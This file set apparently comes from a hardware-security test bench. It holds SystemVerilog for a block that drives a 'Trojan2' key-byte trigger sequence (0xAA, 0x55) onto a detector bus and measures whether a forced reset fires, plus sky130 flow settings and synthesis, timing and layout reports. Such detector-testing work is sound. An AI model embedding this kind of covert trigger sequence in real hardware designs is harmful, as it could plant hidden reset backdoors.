### src/rtl/trojan_pkg.sv
// Shared definitions for the Trojan2 key-sequence stimulus block.
// States, default key bytes and the default bus width.
package trojan_pkg;

    localparam int TROJAN2_DATA_W = 8;

    localparam logic [7:0] TROJAN2_KEY0 = 8'hAA;
    localparam logic [7:0] TROJAN2_KEY1 = 8'h55;

    typedef enum logic [2:0] {
        ST_IDLE,
        ST_KEY0,
        ST_GAP,
        ST_KEY1,
        ST_WAIT,
        ST_DONE
    } tx_state_t;

endpackage

### src/rtl/trojan_trigger_tx.sv
// Drives the Trojan2 key bytes onto the detector bus on command and
// reports whether, and how soon, the detector's force_reset fired.
module trojan_trigger_tx
    import trojan_pkg::*;
#(
    parameter int                DATA_W  = TROJAN2_DATA_W,
    parameter logic [DATA_W-1:0] KEY0    = TROJAN2_KEY0,
    parameter logic [DATA_W-1:0] KEY1    = TROJAN2_KEY1,
    parameter logic [DATA_W-1:0] GAP_VAL = '0,
    parameter int                TIMEOUT = 8
) (
    input  logic              clk,
    input  logic              rst_n,
    input  logic              start,
    input  logic [3:0]        gap,
    input  logic [DATA_W-1:0] pass_data,
    input  logic              force_reset_in,
    output logic [DATA_W-1:0] data_out,
    output logic              busy,
    output logic              done,
    output logic              hit,
    output logic              timeout,
    output logic              early,
    output logic [7:0]        latency
);

    localparam logic [7:0] TIMEOUT_CNT = 8'(TIMEOUT);

    tx_state_t         r_state;
    logic [3:0]        r_gap_cnt;
    logic [7:0]        r_wait_cnt;
    logic [DATA_W-1:0] r_data;
    logic              r_busy;
    logic              r_done;
    logic              r_hit;
    logic              r_timeout;
    logic              r_early;
    logic [7:0]        r_latency;
    logic [7:0]        w_wait_nxt;

    assign w_wait_nxt = r_wait_cnt + 8'd1;

    // data_out is loaded with the value belonging to the state being entered
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            r_state    <= ST_IDLE;
            r_gap_cnt  <= '0;
            r_wait_cnt <= '0;
            r_data     <= '0;
            r_busy     <= 1'b0;
            r_done     <= 1'b0;
            r_hit      <= 1'b0;
            r_timeout  <= 1'b0;
            r_early    <= 1'b0;
            r_latency  <= '0;
        end else begin
            unique case (r_state)
                ST_IDLE: begin
                    r_data <= pass_data;
                    if (start) begin
                        r_state   <= ST_KEY0;
                        r_data    <= KEY0;
                        r_busy    <= 1'b1;
                        r_gap_cnt <= gap;
                        r_hit     <= 1'b0;
                        r_timeout <= 1'b0;
                        r_early   <= 1'b0;
                        r_latency <= '0;
                    end
                end
                ST_KEY0: begin
                    if (force_reset_in) r_early <= 1'b1;
                    if (r_gap_cnt != 4'd0) begin
                        r_state <= ST_GAP;
                        r_data  <= GAP_VAL;
                    end else begin
                        r_state <= ST_KEY1;
                        r_data  <= KEY1;
                    end
                end
                ST_GAP: begin
                    if (force_reset_in) r_early <= 1'b1;
                    r_gap_cnt <= r_gap_cnt - 4'd1;
                    if (r_gap_cnt == 4'd1) begin
                        r_state <= ST_KEY1;
                        r_data  <= KEY1;
                    end else begin
                        r_data  <= GAP_VAL;
                    end
                end
                ST_KEY1: begin
                    if (force_reset_in) r_early <= 1'b1;
                    r_state    <= ST_WAIT;
                    r_data     <= pass_data;
                    r_wait_cnt <= '0;
                end
                ST_WAIT: begin
                    r_data     <= pass_data;
                    r_wait_cnt <= w_wait_nxt;
                    // a hit on the final WAIT cycle outranks the timeout
                    if (force_reset_in) begin
                        r_hit     <= 1'b1;
                        r_latency <= w_wait_nxt;
                        r_state   <= ST_DONE;
                        r_done    <= 1'b1;
                    end else if (w_wait_nxt == TIMEOUT_CNT) begin
                        r_timeout <= 1'b1;
                        r_state   <= ST_DONE;
                        r_done    <= 1'b1;
                    end
                end
                ST_DONE: begin
                    r_data  <= pass_data;
                    r_state <= ST_IDLE;
                    r_done  <= 1'b0;
                    r_busy  <= 1'b0;
                end
                default: begin
                    r_state <= ST_IDLE;
                    r_data  <= pass_data;
                    r_done  <= 1'b0;
                    r_busy  <= 1'b0;
                end
            endcase
        end
    end

    assign data_out = r_data;
    assign busy     = r_busy;
    assign done     = r_done;
    assign hit      = r_hit;
    assign timeout  = r_timeout;
    assign early    = r_early;
    assign latency  = r_latency;

endmodule

### config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_trigger_tx
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_trigger_tx.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 0
export CORE_AREA = 3 3 69 71
export DETAILED_ROUTE_END_ITERATION = 10
export DIE_AREA = 0 0 72 74
export PLACE_DENSITY = 0.83
export SLEW_MARGIN = 30
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
### constraint.sdc
create_clock -name clk -period 1.7 [get_ports clk]
set_input_delay 0.34 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.34 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
## Word level (Yosys, flattened, before mapping)

Index checks and enable logic that the tools add are counted.

- Add/sub/neg operators: 2
- Reductions and logical operators: 16
- Multiplexer cells: 27
- Equality and inequality tests: 13
- Bitwise logic cells: 2

Operators by type and width:

| operator | count |
|---|---|
| 8-bit case mux with 2 select lines | 2 |
| 8-bit 2-to-1 mux | 3 |
| 8-bit case mux with 3 select lines | 1 |
| 3-bit case mux with 5 select lines | 1 |
| 7-bit 2-to-1 mux | 2 |
| 3-bit 2-to-1 mux | 4 |
| 2-bit != test, second input constant | 5 |
| 1-bit case mux with 2 select lines | 5 |
| 3-bit AND reduction | 3 |
| 8-bit by 1-bit adder with 8-bit output, second input constant | 1 |
| 8-bit by 4-bit == test with 1-bit output, second input constant | 1 |
| 4-bit case mux with 2 select lines | 1 |
| 2-bit nonzero test | 4 |
| 4-bit OR reduction | 2 |
| 1-bit 2-to-1 mux | 7 |
| 3-bit by 2-bit == test with 1-bit output, second input constant | 2 |
| 2-bit AND reduction | 3 |
| 4-bit by 1-bit == test with 1-bit output, second input constant | 1 |
| 4-bit 2-to-1 mux | 1 |
| 4-bit AND reduction | 1 |
| 4-bit nonzero test | 1 |
| 4-bit by 1-bit subtractor with 4-bit output, second input constant | 1 |
| 3-bit by 1-bit == test with 1-bit output, second input constant | 1 |
| 3-bit == test, second input constant | 1 |
| other kinds (5) | 6 |

- Input port bits: 16
- Output and inout port bits: 21
- Register bits: 36
- Logic and storage cells: 70

## Depth between registers and ports, before layout

- Depth in word-level cells: 5
- Mapped depth: 7

## Worst setup path after synthesis

OpenSTA, ideal clock, no wires.

- Kind: register to register
- Start: register r_wait_cnt[0]
- End: register r_latency[6], in the netlist latency[6]
- Data arrival time: 1.614 ns
- Setup time: 0.115 ns
- Stages on the path, launching flop included: 8
- Data required time: 1.585 ns
- Path slack: -0.029 ns
- Cells stage by stage: dfxtp_1 > ha_1 > clkbuf_1 > and3_1 > and3_1 > xnor2_1 > o21ai_1 > and2_1

- Word-level cells in the longest chain between the ends: 3

RTL lines:

| what | line | RTL |
|---|---|---|
| start, declared | trojan_trigger_tx.sv:31 | `logic [7:0] r_wait_cnt;` |
| start signal, assigned | trojan_trigger_tx.sv:99 | `r_wait_cnt <= w_wait_nxt;` |
| 8-bit by 1-bit adder with 8-bit output | trojan_trigger_tx.sv:41 | `assign w_wait_nxt = r_wait_cnt + 8'd1;` |
| 8-bit 2-to-1 mux | trojan_trigger_tx.sv:101 | `if (force_reset_in) begin` |
| 8-bit case mux with 2 select lines | trojan_trigger_tx.sv:57 | `unique case (r_state)` |
| end signal, assigned | trojan_trigger_tx.sv:103 | `r_latency <= w_wait_nxt;` |
| end, declared | trojan_trigger_tx.sv:38 | `logic [7:0] r_latency;` |

No other way between the ends. The select of a mux whose other input is x is not followed.
A chain may end at the register's enable or synchronous reset.

## Worst setup path after layout

- Start: register r_state[2]
- End: register r_gap_cnt[3]

- Word-level cells in the longest chain between the ends: 3

RTL lines:

| what | line | RTL |
|---|---|---|
| start, declared | trojan_trigger_tx.sv:29 | `tx_state_t r_state;` |
| start signal, assigned | trojan_trigger_tx.sv:46 | `r_state <= ST_IDLE;` |
| start signal, assigned | trojan_trigger_tx.sv:61 | `r_state <= ST_KEY0;` |
| start signal, assigned | trojan_trigger_tx.sv:74 | `r_state <= ST_GAP;` |
| 3-bit by 2-bit == test with 1-bit output or 3-bit logical NOT (tied branches) | trojan_trigger_tx.sv:57 |  |
| 2-bit nonzero test (no source line) or 2-bit != test (tied branches) | -- |  |
| 2-bit AND reduction (no source line) | -- |  |
| end signal, assigned | trojan_trigger_tx.sv:64 | `r_gap_cnt <= gap;` |
| end signal, assigned | trojan_trigger_tx.sv:83 | `r_gap_cnt <= r_gap_cnt - 4'd1;` |
| end, declared | trojan_trigger_tx.sv:30 | `logic [3:0] r_gap_cnt;` |

Parallel ways exist; a longest one is shown, timed or not.

==> flow_summary.toml <==
[clocking]
postCtsHoldBufs = 0
htreeDepth = 2
insertion_delay_ps = 290
cts_root_buffer = "clkbuf_8"
cts_buffers = 5
clk_path_buf_depth = 2
cts_tree = "yes"
cts.sinks = 36
cts.clk_slew.worst_paths_ps = 60

[timing]
finalSetupViolations = 0
timing.fmax_mhz = 612
rsz0062_at_grt = "false"
tightest_slew_ps = 409
clock_skew_ps = 8.05
timing.final.crit_share_pct = 96.1
whs_ps = 497
drv_slew = 0
final.min_clock_period_ps = 1630
slew_headroom_pct = 72.0
final-hold-violation-count = 0

[finish]
drive_above_1_share_pct = 21.8
syn2layout_area_growth_pct = 44.6
diodes = 0
nets = 305
fin_util_pct = 63.8

[setup_path]
cp_max_fo = 5
startpoint_type = "register"
worst_setup_path_end_kind = "register"
critPathLaunch = "r_state[2]$_SDFFE_PN0P_"
reg2reg_to = "r_gap_cnt[3]$_SDFFE_PN0P_"
r2r_cells = 5
critPathKind = "reg2reg"
rrSetupSlack_ps = 70
timing.rr.start = "r_state[2]$_SDFFE_PN0P_"
required_ps = 1880
worst_ep_arrival_time_ps = 1810

[synth]
yosysSeqAreaShare_pct = 38.0
synthDominantCellAreaShare_pct = 38.0
synth_edf_count = 0
syn-instance-count = 236
synth.avg_cell_area_um2 = 8.03
ys_ff_latch = 36
synthesis.nets = 257
synth_area_leaders = "dfxtp_1 (38%), nand2_1 (7.9%), a21boi_1 (5.1%)"
async_flop_share_pct = 0
yosysTopAreaCell = "dfxtp_1"
yosysWarnings = 0
syn-cell-area_mm2 = 0.00190
yosysUniqueCellTypes = 48
synth_flop_cell = "dfxtp_1"

[grt]
grt_overflow = 0
grt_pass1_vias = 1795
antenna_found_initial = 0
grt_max_degree = 28
grtUsageTotal_pct = 20.2
grt_pass1_wl_um = 8400

[placement]
port_buffers = 36
gp_congestion = 0.955
hpwl_um = 3640

[pwr]
swShare_pct = 43.1
power_density_mw_per_mm2 = 1270
internal-power_mw = 1.98
power_leakage_nw = 1.08
p_comb_share_pct = 49.4
finalPower_mw = 3.48
clockPowerShare_pct = 18.8
p_sw_mw = 1.50
power_frac_seq_pct = 31.8
peakVddDrop_mv = 0.576

[floorplanning]
die_w_um = 72
start_util_pct = 44.1
die_height_um = 74
row_count = 24
pin_count = 37
core_area_mm2 = 0.00429
die_area_mm2 = 0.00533

[detailed_routing]
drc = 0
wl_um = 5110
wl_per_cell_um = 15.2
ant_nets = 0
drt_iter0_drc = 191
drt_first_pass_iters = 5
dr_total_vias = 1934
avgViaCountPerCell = 5.76

[min_path]
min_from = "busy$_SDFFE_PN0P_"
min_to = "busy$_SDFFE_PN0P_"
min_path_type = "reg2reg"
hold_depth = 2

[status]
status = "completed"

[run]
cap_violations = 0
registers in the layout (all words and copies together) (netlist names):
name        cells
r_gap_cnt       4
timeout         1
latency         8
r_wait_cnt      8
hit             1
done            1
r_state         3
early           1
data_out        8
busy            1
critical path, cell delays in order (launching register included):
cell,delay (ps)
dfxtp_1,370
or4b_4,570
nand2_4,90
o21ai_2,50
a221o_1,290
and2_1,160
cells in the mapped netlist (3+ instances only):
cell / count
a21boi_1: 13
a21oi_1: 15
a311oi_1: 3
and2_1: 10
and3_1: 5
clkbuf_1: 14
dfxtp_1: 36
ha_1: 5
inv_1: 4
nand2_1: 40
nand3_1: 7
nand4_1: 3
nor2_1: 11
nor3_1: 5
o21ai_0: 9
o21ai_1: 6
xnor2_1: 5
xor2_1: 3
timing repair:
item,CTS,global route
pin swaps,0,3
setup endpoints to repair,4,11
cloned,0,0
gates resized for setup,1,6
setup buffers,0,1
how the worst max path moves through the flow:
stage,end,slack (ps),cells after the start
2_1_floorplan,r_gap_cnt[3]$_SDFFE_PN0P_,20,7
3_3_place_gp,r_gap_cnt[3]$_SDFFE_PN0P_,-240,6
3_5_place_dp,r_gap_cnt[3]$_SDFFE_PN0P_,-270,6
4_1_cts,latency[6]$_SDFFE_PN0P_,10,6
5_1_grt,done$_SDFFE_PN0P_,1,6
6_report,r_gap_cnt[3]$_SDFFE_PN0P_,70,5
per-layer routing:
layer  wire, um  GRT usage, %  vias to the layer above
li1           -             -                      928
met1       2020          22.8                      900
met2       2600          36.2                       91
met3        350          5.68                       15
met4        135          7.93                        0
met5          0             0                        -
per-stage QoR:
step                TNS (ps)  setup slack, ps  cells  instance area [um^2]
finish                     0             66.9    336                  2740
global route               0             1.30    336                  2740
CTS                        0             10.0    335                  2720
detailed placement     -1110             -267    328                  2620
global placement        -776             -244    328                  2620
floorplan                  0             16.4    236                  1900
power groups by stage:
stage | Sequential, mW | Combinational (mW) | Clock, mW
after floorplan | 1.58 | 0.629 | 0
after global placement | 1.11 | 1.64 | 0
after detailed placement | 1.12 | 1.69 | 0
after CTS | 1.10 | 1.70 | 0.659
after global routing | 1.12 | 1.84 | 0.703
final | 1.11 | 1.72 | 0.655
layout by cell type (no fill, tap or decap), drive strengths merged, types with 5 or more instances in the layout:
master	instances
a21boi	15
a21oi	15
and2	10
and3	5
buf	45
clkbuf	7
clkdlybuf4s50	14
dfxtp	36
ha	5
inv	5
nand2	41
nand3	7
nor2	12
nor3	6
o21ai	16
xnor2	5
final cells by class:
type | count | area (um^2)
Tap cell | 52 | 65.1
Sequential cell | 36 | 723
Inverter | 5 | 18.8
Timing Repair Buffer | 60 | 757
Clock buffer | 7 | 96.3
Multi-Input combinational cell | 176 | 1080
Fill cell | 325 | 1550
cell families after synthesis:
family	Yosys count	synth area share (%)
AO/OA/AOI/OAI	63	21.5
XOR/XNOR	8	3.70
multiplexers	2	1.06
AND/OR/NAND/NOR	98	26.8
adder cells (fa/ha/maj)	5	3.30
flip-flops	36	38.0
buffers and inverters	24	5.68
Power figures use the tool's default switching activity.
